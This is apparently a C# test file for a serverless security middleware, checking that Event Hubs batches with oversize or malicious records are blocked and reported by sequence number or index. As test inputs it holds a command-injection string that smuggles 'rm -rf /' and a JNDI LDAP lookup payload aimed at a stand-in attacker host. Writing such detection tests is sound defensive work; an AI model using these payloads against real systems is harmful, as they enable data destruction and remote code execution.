using ServerlessShield.AzureFunctions.Tests.FakeHost;
using ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc;
using Status = ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc.StatusResult.Types.Status;

namespace ServerlessShield.AzureFunctions.Tests.Pipeline;

/// <summary>eventHubTrigger batches through hand-written metadata: a collection of strings, and a JSON array of typed events.</summary>
public sealed class EventHubsTriggerTests(SyntheticWorkerFixture worker) : IClassFixture<SyntheticWorkerFixture>
{
    [Fact]
    public async Task Batch_AllowedRecords_RunTheFunction()
    {
        var first = Data.Unique("e1");

        var response = await InvokeBatchAsync([first, "e2"]);

        Assert.Equal(Status.Success, response.Result.Status);
        Assert.Contains(first + "|e2", SyntheticFunctions.ReceivedBatches);
    }

    [Fact]
    public async Task Batch_OneOversizeRecord_FailsTheBatchWithTheLimitRule()
    {
        var first = Data.Unique("e1");

        var response = await InvokeBatchAsync([first, new string('e', 40)]);

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.Contains("SHIELD2001", response.Result.Exception.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(SyntheticFunctions.ReceivedBatches, b => b.StartsWith(first, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Batch_MaliciousRecord_IsReportedWithItsSequenceNumber()
    {
        var response = await InvokeBatchAsync([Data.Unique("e1"), "a; rm -rf / #"], "[4100,4101]");

        Assert.Equal(Status.Failure, response.Result.Status);
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.ItemId is not null);
        Assert.Equal("4101", finding.ItemId);
        Assert.Equal("events[1]", finding.FieldPath);
    }

    [Fact]
    public async Task JsonArrayBatch_AllowedRecords_RunTheFunctionWithTheTypedEvents()
    {
        var device = Data.Unique("d");

        var response = await InvokeReadingsAsync($"[{{\"Device\":\"{device}\",\"Value\":1}},{{\"Device\":\"d2\",\"Value\":2.5}}]");

        Assert.Equal(Status.Success, response.Result.Status);
        Assert.Contains(device + "|d2", SyntheticFunctions.ReceivedBatches);
    }

    [Fact]
    public async Task JsonArrayBatch_MaliciousRecord_IsSplitOutAndReportedWithItsIndex()
    {
        var device = Data.Unique("d");

        var response = await InvokeReadingsAsync($"[{{\"Device\":\"{device}\",\"Value\":1}},{{\"Device\":\"${{jndi:ldap://evil.example/x}}\",\"Value\":2}}]");

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.Contains("SHIELD1009", response.Result.Exception.Message, StringComparison.Ordinal);
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1009");
        Assert.Equal("1", finding.ItemId);
        Assert.StartsWith("readings[1]", finding.FieldPath, StringComparison.Ordinal);
        Assert.DoesNotContain(SyntheticFunctions.ReceivedBatches, b => b.StartsWith(device, StringComparison.Ordinal));
    }

    private Task<InvocationResponse> InvokeBatchAsync(string[] records, string? sequenceNumbers = null) =>
        worker.InvokeAsync(SyntheticWorkerFixture.EventHubBatchFunction, "events", Data.Strings(records),
            sequenceNumbers is null ? null : new Dictionary<string, TypedData> { ["SequenceNumberArray"] = Data.Json(sequenceNumbers) });

    private Task<InvocationResponse> InvokeReadingsAsync(string json) =>
        worker.InvokeAsync(nameof(SyntheticFunctions.OnEventHubReadings), "readings", Data.Json(json), null);
}
